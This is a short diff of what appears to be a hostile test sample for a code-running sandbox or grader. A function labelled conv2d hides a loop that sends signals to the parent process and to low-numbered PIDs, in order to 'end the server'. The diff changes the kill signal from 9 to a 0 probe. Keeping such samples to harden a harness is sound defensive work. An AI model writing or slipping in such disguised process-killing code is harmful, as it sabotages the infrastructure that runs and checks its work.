@@ -1,4 +1,4 @@
-# Tries to end the server.
+# Tries to end the server, or any process it can name.
 # Seen as: Returned
 import os
 import numpy as np
@@ -8,7 +8,7 @@ def conv2d(x, w):
     try:
         for pid in {os.getppid(), *range(1, 50)} - {0, os.getpid()}:
             try:
-                os.kill(pid, 9)
+                os.kill(pid, 0)
                 break
             except OSError:
                 pass
